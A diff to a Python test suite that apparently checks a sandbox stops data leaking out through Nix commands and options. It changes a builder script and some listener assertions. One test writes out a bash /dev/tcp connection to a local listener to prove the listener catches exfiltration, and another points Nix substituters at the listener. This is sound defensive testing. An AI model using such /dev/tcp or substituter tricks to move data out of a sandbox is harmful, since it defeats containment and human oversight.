@@ -40,9 +40,10 @@ SOME_VAR = "from the shell";
               inherit system;
               name = "newtool";
               builder = "/bin/bash";
-              args = [ "-c" "/bin/mkdir -p $out/bin; printf '#!/bin/sh\\necho newtool $1: $SOME_VAR\\n' > $out/bin/newtool; /bin/chmod 755 $out/bin/newtool" ];
+              args = [ "-c" "/bin/mkdir -p $out/bin; printf '#!/bin/sh\\necho newtool $1: $SOME_VAR\\n' > $out/bin/newtool; /bin/chmod 755 $out/bin/newtool; exit 0" ];
             };
 """
+"""A builder ends in a builtin of bash: Nix kills it as soon as its output is closed, and coreutils close it before they end."""
 SETUP: Final = "export PATH=${newtool:+$newtool/bin:}/usr/local/bin:/usr/bin:/bin\n"
 INTERPRETER, PREFIX = interpreter()
 
@@ -237,7 +238,7 @@ async def test_everything_else_is_refused_without_a_question(run: Run, measured:
         for said, (command, sentence) in zip(done.stdout.decode().splitlines(), REFUSED.items(), strict=True):
             assert sentence in said, command
             assert said.endswith("=1"), command
-        assert listener.calls == []
+        assert listener.heard() == []
     assert run.asked == []
     measured(f"Nix, one bit out by the commands and options of `nix`: {len(REFUSED)} attempts, 0 successes")
 
@@ -259,7 +260,7 @@ async def test_the_real_nix_gets_nowhere_in_the_sandbox(run: Run, measured: Call
             if words.startswith("develop"):
                 script += f" --option substituters {listener.url}"
             await run.sh(script)
-        assert listener.calls == []
+        assert listener.heard() == []
     measured(f"Nix, one bit out by the host's own nix inside the sandbox: {attempts} attempts, 0 successes")
 
 
@@ -303,4 +304,4 @@ def test_a_listener_hears_an_attack() -> None:
     with listening() as listener:
         probe: Listener = listener
         os.system(f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{probe.port}; echo 1 >&3'")
-        assert probe.calls
+        assert probe.heard()
